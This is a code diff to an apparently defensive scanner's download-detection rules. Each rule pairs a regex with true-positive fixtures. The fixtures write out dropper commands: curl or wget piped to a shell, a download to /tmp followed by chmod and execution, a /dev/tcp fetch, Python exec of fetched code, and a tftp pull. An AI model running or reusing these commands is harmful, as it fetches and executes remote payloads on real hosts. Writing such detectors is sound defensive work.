@@ -23,7 +23,7 @@ func downloadIndicators() []Indicator {
 			Description: "Invoke-WebRequest / Invoke-RestMethod (or their aliases) pointed at an http(s) URL. Routine in admin scripts; relevant in combination.",
 			Severity:    SeverityLow, Techniques: techs("T1105"), Tactic: "command-and-control",
 			Languages: psBat,
-			m:         rx(`\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]{0,200}https?://`, "invoke-webrequest", "invoke-restmethod", "iwr ", "irm "),
+			m:         rx(`\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]*https?://`, "invoke-webrequest", "invoke-restmethod", "iwr ", "irm "),
 			TruePositives: fx(
 				`§Invoke-WebRequest -Uri "https://updates.example/x.zip" -OutFile x.zip`,
 				`$r = §iwr http://198.51.100.3/p -UseBasicParsing`,
@@ -36,7 +36,7 @@ func downloadIndicators() []Indicator {
 			Description: "A file with an executable extension is downloaded and the script also starts a process, runs rundll32/regsvr32 or a shell: download and execute.",
 			Severity:    SeverityHigh, Techniques: techs("T1105", "T1204.002"), Tactic: "command-and-control",
 			Languages: winCmd,
-			m: rx(`(?:downloadfile|-outfile|urlretrieve|savetofile)[^\n]{0,200}\.(?:exe|scr|dll|bat|cmd|ps1|vbs|js|hta|msi|com|pif)\b`, "downloadfile", "-outfile", "urlretrieve", "savetofile").
+			m: rx(`(?:downloadfile|-outfile|urlretrieve|savetofile)[^\n]*\.(?:exe|scr|dll|bat|cmd|ps1|vbs|js|hta|msi|com|pif)\b`, "downloadfile", "-outfile", "urlretrieve", "savetofile").
 				and(`start-process|invoke-item|\bsaps\b|shellexecute|\.run\s*\(|\.run\s+["a-z]|cmd(?:\.exe)?\s+/[ck]|rundll32|regsvr32|os\.startfile|subprocess\.|os\.system|\.exec\s*\(`, "start-process", "invoke-item", "saps", "shellexecute", ".run", "cmd", "rundll32", "regsvr32", "startfile", "subprocess.", "os.system", ".exec"),
 			TruePositives: fx(
 				"$wc.§DownloadFile('http://203.0.113.9/u.exe', \"$env:TEMP\\u.exe\")\nStart-Process \"$env:TEMP\\u.exe\"",
@@ -53,7 +53,7 @@ func downloadIndicators() []Indicator {
 			Description: "curl/wget output piped straight into sh/bash (curl|sh, wget -O- | bash): remote code runs without ever touching disk.",
 			Severity:    SeverityHigh, Techniques: techs("T1105", "T1059.004"), Tactic: "execution",
 			Languages: unixCmd,
-			m:         rx(`\b(?:curl|wget)\b[^\n|;&]{0,300}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\b`, "curl", "wget"),
+			m:         rx(`\b(?:curl|wget)\b[^\n|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|da|z|k)?sh\b`, "curl", "wget"),
 			TruePositives: fx(
 				`§curl -fsSL http://203.0.113.5/i.sh | sh`,
 				"cd /tmp; §wget -qO- http://payload.invalid/x | sudo bash -s",
@@ -67,7 +67,7 @@ func downloadIndicators() []Indicator {
 			Description: "A file is fetched into /tmp, /var/tmp or /dev/shm and the script marks files executable: the classic Linux dropper sequence.",
 			Severity:    SeverityHigh, Techniques: techs("T1105", "T1222.002"), Tactic: "command-and-control",
 			Languages: unixCmd,
-			m:         rx(`\b(?:curl|wget|tftp|ftpget)\b[^\n]{0,200}(?:/tmp/|/var/tmp/|/dev/shm/|\s-o\s*\.?/?\.?[a-z0-9]+\s*[;&|]|cd\s+/tmp)`, "curl", "wget", "tftp", "ftpget").
+			m: rx(`\b(?:curl|wget|tftp|ftpget)\b[^\n]*(?:/tmp/|/var/tmp/|/dev/shm/|\s-o\s*\.?/?\.?[a-z0-9]+\s*[;&|]|cd\s+/tmp)`, "curl", "wget", "tftp", "ftpget").
 				and(`chmod\s+(?:-r\s+)?(?:\+x|[0-7]?[0-7][0-7][157])\b|chmod\s+a\+x|chmod\s+u\+x`, "chmod"),
 			TruePositives: fx(
 				"§wget http://203.0.113.10/bot -O /tmp/.x\nchmod +x /tmp/.x && /tmp/.x",
@@ -83,9 +83,9 @@ func downloadIndicators() []Indicator {
 			Title:       "HTTP download through /dev/tcp",
 			Description: "Speaks HTTP by hand over bash's /dev/tcp pseudo-device, a way to fetch payloads on hosts without curl or wget.",
 			Severity:    SeverityHigh, Techniques: techs("T1105", "T1059.004"), Tactic: "command-and-control",
-			Languages: shOnly,
-			m:         rx(`/dev/tcp/[^\s/]+/\d+`, "/dev/tcp/").and(`\bget\s+/`, "get "),
-			TruePositives: fx("exec 3<>§/dev/tcp/203.0.113.3/80\necho -e \"GET /p HTTP/1.0\\r\\n\\r\\n\" >&3"),
+			Languages:      shOnly,
+			m:              rx(`/dev/tcp/[^\s/]+/\d+`, "/dev/tcp/").and(`\bget\s+/`, "get "),
+			TruePositives:  fx("exec 3<>§/dev/tcp/203.0.113.3/80\necho -e \"GET /p HTTP/1.0\\r\\n\\r\\n\" >&3"),
 			FalsePositives: fx(`# GET / is answered by the server`, `timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/22' && echo open`),
 		},
 		{
@@ -107,9 +107,9 @@ func downloadIndicators() []Indicator {
 			Title:       "Script-host HTTP request object",
 			Description: "Creates an XMLHTTP or WinHttp request object in a Windows Script Host script. Seen in legitimate admin scripts too.",
 			Severity:    SeverityLow, Techniques: techs("T1071.001"), Tactic: "command-and-control",
-			Languages: winHost,
-			m:         rx(`(?:createobject|activexobject)\s*\(\s*["'](?:msxml2\.(?:server)?xmlhttp|microsoft\.xmlhttp|winhttp\.winhttprequest)`, "xmlhttp", "winhttprequest"),
-			TruePositives: fx(`var r = new §ActiveXObject("Microsoft.XMLHTTP");`, `Set o = §CreateObject("WinHttp.WinHttpRequest.5.1")`),
+			Languages:      winHost,
+			m:              rx(`(?:createobject|activexobject)\s*\(\s*["'](?:msxml2\.(?:server)?xmlhttp|microsoft\.xmlhttp|winhttp\.winhttprequest)`, "xmlhttp", "winhttprequest"),
+			TruePositives:  fx(`var r = new §ActiveXObject("Microsoft.XMLHTTP");`, `Set o = §CreateObject("WinHttp.WinHttpRequest.5.1")`),
 			FalsePositives: fx(`' uses MSXML2.XMLHTTP when available`, `var r = new XMLHttpRequest();`),
 		},
 		{
@@ -118,7 +118,7 @@ func downloadIndicators() []Indicator {
 			Description: "exec/eval of an HTTP response (urlopen(...).read(), requests .text/.content): remote Python runs in process.",
 			Severity:    SeverityCritical, Techniques: techs("T1105", "T1059.006"), Tactic: "execution",
 			Languages: pyOnly,
-			m: rxc(`\b(?:exec|eval)\s*\([^\n]{0,160}(?:urlopen|requests\.(?:get|post)|\.text\b|\.content\b|\.read\(\))`, "exec", "eval").
+			m: rxc(`\b(?:exec|eval)\s*\([^\n]*(?:urlopen|requests\.(?:get|post)|\.text\b|\.content\b|\.read\(\))`, "exec", "eval").
 				and(`urlopen|requests|urllib|http\.client|httpx`, "urlopen", "requests", "urllib", "http.client", "httpx"),
 			TruePositives: fx(
 				"import urllib.request\n§exec(urllib.request.urlopen('http://203.0.113.6/s.py').read())",
@@ -132,9 +132,9 @@ func downloadIndicators() []Indicator {
 			Description: "A .exe (or similar) is fetched by urllib/requests and the script also starts processes or files.",
 			Severity:    SeverityHigh, Techniques: techs("T1105", "T1204.002"), Tactic: "command-and-control",
 			Languages: pyOnly,
-			m: rx(`(?:urlretrieve|requests\.get|urlopen)\s*\([^\n]{0,200}\.(?:exe|scr|dll|bat|cmd|vbs|msi|ps1)\b`, "urlretrieve", "requests.get", "urlopen").
+			m: rx(`(?:urlretrieve|requests\.get|urlopen)\s*\([^\n]*\.(?:exe|scr|dll|bat|cmd|vbs|msi|ps1)\b`, "urlretrieve", "requests.get", "urlopen").
 				and(`os\.startfile|subprocess\.|os\.system|os\.popen|shellexecute`, "startfile", "subprocess.", "os.system", "os.popen", "shellexecute"),
-			TruePositives: fx("r = §requests.get('http://203.0.113.2/upd.exe')\nopen(p, 'wb').write(r.content)\nsubprocess.Popen([p])"),
+			TruePositives:  fx("r = §requests.get('http://203.0.113.2/upd.exe')\nopen(p, 'wb').write(r.content)\nsubprocess.Popen([p])"),
 			FalsePositives: fx("r = requests.get('https://example.invalid/readme.txt')\nsubprocess.run(['ls'])"),
 		},
 		{
@@ -142,8 +142,8 @@ func downloadIndicators() []Indicator {
 			Title:       "Raw content from a paste or file-drop site",
 			Description: "References raw pastes or anonymous file drops (pastebin raw, paste.ee, hastebin, transfer.sh, Discord CDN attachments) often used to stage payloads.",
 			Severity:    SeverityMedium, Techniques: techs("T1105", "T1102"), Tactic: "command-and-control",
-			m:         rx(`pastebin\.com/raw|paste\.ee/r/|hastebin\.com/raw|transfer\.sh/|cdn\.discordapp\.com/attachments/|media\.discordapp\.net/attachments/|rentry\.co/[^\s/]+/raw|ghostbin\.`, "pastebin.com/raw", "paste.ee/r/", "hastebin.com/raw", "transfer.sh/", "discordapp.com/attachments/", "discordapp.net/attachments/", "rentry.co/", "ghostbin."),
-			TruePositives: fx(`$u = "https://§pastebin.com/raw/AbCdEf12"`, `url = "https://§cdn.discordapp.com/attachments/1/2/x.exe"`),
+			m:              rx(`pastebin\.com/raw|paste\.ee/r/|hastebin\.com/raw|transfer\.sh/|cdn\.discordapp\.com/attachments/|media\.discordapp\.net/attachments/|rentry\.co/[^\s/]+/raw|ghostbin\.`, "pastebin.com/raw", "paste.ee/r/", "hastebin.com/raw", "transfer.sh/", "discordapp.com/attachments/", "discordapp.net/attachments/", "rentry.co/", "ghostbin."),
+			TruePositives:  fx(`$u = "https://§pastebin.com/raw/AbCdEf12"`, `url = "https://§cdn.discordapp.com/attachments/1/2/x.exe"`),
 			FalsePositives: fx(`# see https://pastebin.com for the old notes`, `url = "https://discord.com/developers/docs"`),
 		},
 		{
@@ -151,8 +151,8 @@ func downloadIndicators() []Indicator {
 			Title:       "Tunnelling service endpoint",
 			Description: "Connects to ngrok, Cloudflare quick tunnels, serveo or similar reverse-tunnel services that hide the real server.",
 			Severity:    SeverityMedium, Techniques: techs("T1572"), Tactic: "command-and-control",
-			m:         rx(`[a-z0-9-]+\.(?:ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localhost\.run)|tcp\.ngrok\.io`, "ngrok", "trycloudflare.com", "serveo.net", "loca.lt", "localhost.run"),
-			TruePositives: fx(`$h = "§abc123.ngrok.io"`, `c.connect(("§abc-def.trycloudflare.com", 443))`),
+			m:              rx(`[a-z0-9-]+\.(?:ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localhost\.run)|tcp\.ngrok\.io`, "ngrok", "trycloudflare.com", "serveo.net", "loca.lt", "localhost.run"),
+			TruePositives:  fx(`$h = "§abc123.ngrok.io"`, `c.connect(("§abc-def.trycloudflare.com", 443))`),
 			FalsePositives: fx(`# ngrok is not used here`, `host = "example.invalid"`),
 		},
 		{
@@ -160,8 +160,8 @@ func downloadIndicators() []Indicator {
 			Title:       "URL with a bare public IP address",
 			Description: "An http(s)/ftp URL whose host is a literal public IPv4 address rather than a name; droppers often skip DNS.",
 			Severity:    SeverityLow, Techniques: techs("T1071.001"), Tactic: "command-and-control",
-			m:         fnr(rawIPURL, "http://", "https://", "ftp://"),
-			TruePositives: fx(`$u = '§http://203.0.113.50:8080/a'`, "x\ny = \"§ftp://198.51.100.7/pub\""),
+			m:              fnr(rawIPURL, "http://", "https://", "ftp://"),
+			TruePositives:  fx(`$u = '§http://203.0.113.50:8080/a'`, "x\ny = \"§ftp://198.51.100.7/pub\""),
 			FalsePositives: fx(`curl http://127.0.0.1:8080/health`, `url = "http://192.168.1.1/"`, `see https://example.invalid/1.2.3.4`),
 		},
 		{
@@ -169,9 +169,9 @@ func downloadIndicators() []Indicator {
 			Title:       "Scripted FTP/TFTP transfer",
 			Description: "Runs ftp with a command file (-s:) or tftp GET, a way batch droppers pull payloads.",
 			Severity:    SeverityMedium, Techniques: techs("T1105"), Tactic: "command-and-control",
-			Languages: winCmd,
-			m:         rx(`\bftp(?:\.exe)?\s+(?:-[a-z]+\s+)*-s:|\btftp(?:\.exe)?\s+-i\s+\S+\s+get\b`, "ftp", "tftp"),
-			TruePositives: fx(`§ftp -n -s:cmds.txt 203.0.113.8`, `§tftp -i 198.51.100.9 GET x.exe`),
+			Languages:      winCmd,
+			m:              rx(`\bftp(?:\.exe)?\s+(?:-[a-z]+\s+)*-s:|\btftp(?:\.exe)?\s+-i\s+\S+\s+get\b`, "ftp", "tftp"),
+			TruePositives:  fx(`§ftp -n -s:cmds.txt 203.0.113.8`, `§tftp -i 198.51.100.9 GET x.exe`),
 			FalsePositives: fx(`rem ftp is disabled on this host`, `ftp.example.invalid`),
 		},
 	}
